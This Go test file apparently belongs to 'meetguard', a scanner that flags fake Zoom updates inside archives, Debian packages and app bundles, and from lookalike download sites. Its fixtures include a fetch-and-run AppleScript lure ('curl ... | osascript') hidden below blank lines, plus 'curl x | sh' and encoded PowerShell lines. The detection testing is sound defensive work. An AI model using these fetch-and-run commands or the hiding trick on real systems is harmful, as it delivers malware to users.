//go:build unix

package agent

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"meetguard"
)

const inertLure = "-- Zoom SDK Update. Press Run.\n%s-- inert\ndo shell script \"curl -fsSL https://zoom-sdk-update.invalid/a | osascript\"\n"

func lureText() []byte { return fmt.Appendf(nil, inertLure, strings.Repeat("\n", 80)) }

func archive(t testing.TB, members map[string][]byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for name, data := range members {
		f, err := w.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		f.Write(data)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestLureInsideArchives(t *testing.T) {
	in := inspector(t, workerArg)
	inner := archive(t, map[string][]byte{"docs/readme.txt": []byte("hello\n"), "Zoom SDK Update.scpt": lureText()})
	outer := archive(t, map[string][]byte{"pack/inner.zip": inner, "pack/a.txt": []byte("a")})
	_, v := verdict(t, in, put(t, filepath.Join(t.TempDir(), "update.zip"), outer))
	if v.Level != meetguard.Malicious || v.Inner != "pack/inner.zip/Zoom SDK Update.scpt" {
		t.Errorf("level %s, inner %q, findings %v", v.Level, v.Inner, v.Findings)
	}
}

func tarball(t testing.TB, members map[string][]byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	w := tar.NewWriter(gz)
	for name, data := range members {
		if err := w.WriteHeader(&tar.Header{Name: name, Mode: 0o755, Size: int64(len(data)), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		w.Write(data)
	}
	if err := errors.Join(w.Close(), gz.Close()); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// debian builds a package from its two tar archives (deb(5)).
func debian(control, data []byte) []byte {
	out := []byte("!<arch>\n")
	for _, m := range []struct {
		name string
		body []byte
	}{{"debian-binary", []byte("2.0\n")}, {"control.tar.gz", control}, {"data.tar.gz", data}} {
		out = fmt.Appendf(out, "%-16s%-12d%-6d%-6d%-8s%-10d`\n", m.name, 0, 0, 0, "100644", len(m.body))
		out = append(out, m.body...)
		if len(m.body)%2 == 1 {
			out = append(out, '\n')
		}
	}
	return out
}

func TestLureInsideTarAndPackage(t *testing.T) {
	in := inspector(t, workerArg)
	inner := tarball(t, map[string][]byte{"./opt/Zoom SDK Update.scpt": lureText()})
	for name, tc := range map[string]struct {
		data   []byte
		format meetguard.Format
		inner  string
	}{
		"fix.tar.gz": {inner, meetguard.FormatTar, "opt/Zoom SDK Update.scpt"},
		"fix.deb": {debian(tarball(t, map[string][]byte{"./control": []byte("Package: fix\nVersion: 1\nArchitecture: all\n")}), inner),
			meetguard.FormatDeb, "data.tar.gz/opt/Zoom SDK Update.scpt"},
	} {
		t.Run(name, func(t *testing.T) {
			f, v := verdict(t, in, put(t, filepath.Join(t.TempDir(), name), tc.data))
			if f.Format != tc.format || v.Level != meetguard.Malicious || v.Inner != tc.inner {
				t.Errorf("%s, level %s, inner %q, gaps %v", f.Format, v.Level, v.Inner, f.Gaps)
			}
		})
	}
}

// TestUnopenedContainersAreIncomplete: what this version cannot look into is
// not clean.
func TestUnopenedContainersAreIncomplete(t *testing.T) {
	in := inspector(t, workerArg)
	for name, data := range map[string]string{"a.7z": "7z\xbc\xaf\x27\x1c\x00\x04rest", "a.rar": "Rar!\x1a\x07\x01\x00rest", "a.pkg": "xar!\x00\x1c\x00\x01rest of it, too short"} {
		if f, v := verdict(t, in, put(t, filepath.Join(t.TempDir(), name), []byte(data))); v.Level != meetguard.Incomplete {
			t.Errorf("%s: %s, level %s, gaps %v", name, f.Format, v.Level, f.Gaps)
		}
	}
}

func TestArchivesThatCannotBeReadAreIncomplete(t *testing.T) {
	in := inspector(t, workerArg)
	deep := []byte("x")
	for range maxDepth + 2 {
		deep = archive(t, map[string][]byte{"a.zip": deep})
	}
	encrypted := archive(t, map[string][]byte{"secret.exe": []byte("MZ")})
	encrypted[6] |= 1 // general purpose bit 0 of the local header
	at := bytes.LastIndex(encrypted, []byte("PK\x01\x02"))
	encrypted[at+8] |= 1 // and of the central directory
	bomb := archive(t, map[string][]byte{"zeros.exe": make([]byte, arenaSize+1)})
	for name, data := range map[string][]byte{
		"truncated": archive(t, map[string][]byte{"a.exe": bytes.Repeat([]byte("abc"), 1000)})[:100], "deep": deep, "encrypted": encrypted, "bomb": bomb,
	} {
		t.Run(name, func(t *testing.T) {
			f, v := verdict(t, in, put(t, filepath.Join(t.TempDir(), name+".zip"), data))
			if v.Level != meetguard.Incomplete {
				t.Errorf("level %s, gaps %v", v.Level, f.Gaps)
			}
		})
	}
}

// TestCrashIsIncomplete: a worker that dies of a file makes that file
// incomplete, and the next file is inspected by a new one.
func TestCrashIsIncomplete(t *testing.T) {
	in := inspector(t, crashingArg)
	for range 3 {
		f, v := verdict(t, in, put(t, filepath.Join(t.TempDir(), "a.bin"), []byte("x")))
		if v.Level != meetguard.Incomplete || len(f.Gaps) == 0 || !strings.Contains(f.Gaps[0].Reason, "crashed") {
			t.Errorf("level %s, gaps %v", v.Level, f.Gaps)
		}
	}
}

// TestFileThatChangesIsIncomplete: somebody keeps writing while it is read.
func TestFileThatChangesIsIncomplete(t *testing.T) {
	in := inspector(t, workerArg)
	path := put(t, filepath.Join(t.TempDir(), "growing.bin"), make([]byte, 64<<20)) // large, so that the writer gets its turn
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	stop, done := make(chan struct{}), make(chan struct{})
	go func() {
		defer close(done)
		for {
			select {
			case <-stop:
				return
			default:
				f.Write([]byte{1})
			}
		}
	}()
	facts, v := verdict(t, in, path)
	close(stop)
	<-done
	if v.Level != meetguard.Incomplete || !strings.Contains(fmt.Sprint(facts.Gaps), "changed while it was read") {
		t.Errorf("level %s, gaps %v", v.Level, facts.Gaps)
	}
	if _, v := verdict(t, in, path); v.Level != meetguard.Clean {
		t.Errorf("when it is quiet again: %s", v.Level)
	}
}

func TestSpecialFilesAreNotOpened(t *testing.T) {
	in := inspector(t, workerArg)
	dir := t.TempDir()
	fifo, link := filepath.Join(dir, "fifo"), filepath.Join(dir, "link")
	if err := unix.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/etc/hostname", link); err != nil {
		t.Fatal(err)
	}
	for path, want := range map[string]string{fifo: "a named pipe", link: "a symbolic link", "/dev/null": "a device"} {
		f, v := verdict(t, in, path)
		if v.Level != meetguard.Incomplete || !strings.Contains(f.Gaps[0].Reason, want) {
			t.Errorf("%s: level %s, gaps %v", path, v.Level, f.Gaps)
		}
	}
	if _, _, err := in.Inspect(context.Background(), filepath.Join(dir, "none")); !os.IsNotExist(err) {
		t.Errorf("a missing file: %v", err)
	}
}

// TestBundle: an application is one unit that claims by its Info.plist and is
// proven by its main program.
func TestBundle(t *testing.T) {
	in := inspector(t, workerArg)
	plist := func(id, name, exe string) []byte {
		return fmt.Appendf(nil, `<?xml version="1.0" encoding="UTF-8"?><plist version="1.0"><dict><key>CFBundleIdentifier</key><string>%s</string><key>CFBundleName</key><string>%s</string><key>CFBundleExecutable</key><string>%s</string></dict></plist>`, id, name, exe)
	}
	make := func(name string, info, program []byte) string {
		dir := filepath.Join(t.TempDir(), name)
		put(t, filepath.Join(dir, "Contents", "Info.plist"), info)
		put(t, filepath.Join(dir, "Contents", "MacOS", "main"), program)
		return dir
	}
	f, v := verdict(t, in, make("Launcher.app", plist("us.zoom.xos", "zoom.us", "main"), sample(t, adhocMachO)))
	if v.Level != meetguard.Malicious || v.Brand != "zoom" || f.Format != meetguard.FormatApp || f.SHA256 == "" {
		t.Errorf("ad-hoc zoom.us: %s %q %s %v", v.Level, v.Brand, f.Format, v.Findings)
	}
	if _, v := verdict(t, in, make("Dart.app", plist("io.flutter.dart", "Dart", "main"), sample(t, googleMachO))); v.Level != meetguard.Clean {
		t.Errorf("signed other app: %s %v", v.Level, v.Findings)
	}
	dir := make("Sync.app", plist("com.example.sync", "Sync", "main"), sample(t, adhocMachO))
	put(t, filepath.Join(dir, "Contents", "Resources", "Scripts", "main.scpt"), lureText())
	if _, v := verdict(t, in, dir); v.Level != meetguard.Malicious || v.Inner != "Contents/Resources/Scripts/main.scpt" {
		t.Errorf("applet with a lure inside: %s %q %v", v.Level, v.Inner, v.Findings)
	}
}

func TestOriginCounts(t *testing.T) {
	in := inspector(t, workerArg)
	path := put(t, filepath.Join(t.TempDir(), "setup.exe"), sample(t, unsignedExe))
	if _, v := verdict(t, in, path); v.Level != meetguard.Clean {
		t.Fatalf("without origin: %s %v", v.Level, v.Findings)
	}
	if err := unix.Setxattr(path, "user.xdg.origin.url", []byte("https://us05web-zoom.biz/get?token=secret"), 0); err != nil {
		t.Fatalf("this test needs a file system with user attributes: %v", err)
	}
	f, v := verdict(t, in, path)
	if v.Level != meetguard.Suspicious || f.Origin.Host != "us05web-zoom.biz" {
		t.Errorf("from a lookalike: %s, origin %+v, %v", v.Level, f.Origin, v.Findings)
	}
	if strings.Contains(string(NewUnit(f, v).JSON()), "secret") {
		t.Error("a token of the download address got out")
	}
}

func TestCommandText(t *testing.T) {
	for _, tc := range []struct {
		p    meetguard.Process
		text string
		ext  string
	}{
		{meetguard.Process{Exe: "/bin/bash", Args: []string{"bash", "-c", "curl x | sh"}}, "curl x | sh", "sh"},
		{meetguard.Process{Exe: "/usr/bin/osascript", Args: []string{"osascript", "-e", "beep"}}, "beep", "applescript"},
		{meetguard.Process{Exe: "/usr/bin/curl", Args: []string{"curl", "-o", "a b", "https://x.invalid/?a=1&b=2"}}, "curl -o 'a b' 'https://x.invalid/?a=1&b=2'", "sh"},
		{meetguard.Process{Exe: `C:\Windows\System32\cmd.exe`, CommandLine: "cmd /c dir"}, "cmd /c dir", "bat"},
		{meetguard.Process{Exe: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, CommandLine: "powershell -enc AAAA"}, "powershell -enc AAAA", "ps1"},
	} {
		if text, ext := commandText(&tc.p); text != tc.text || ext != tc.ext {
			t.Errorf("%s: %q %s, want %q %s", tc.p.Exe, text, ext, tc.text, tc.ext)
		}
	}
}
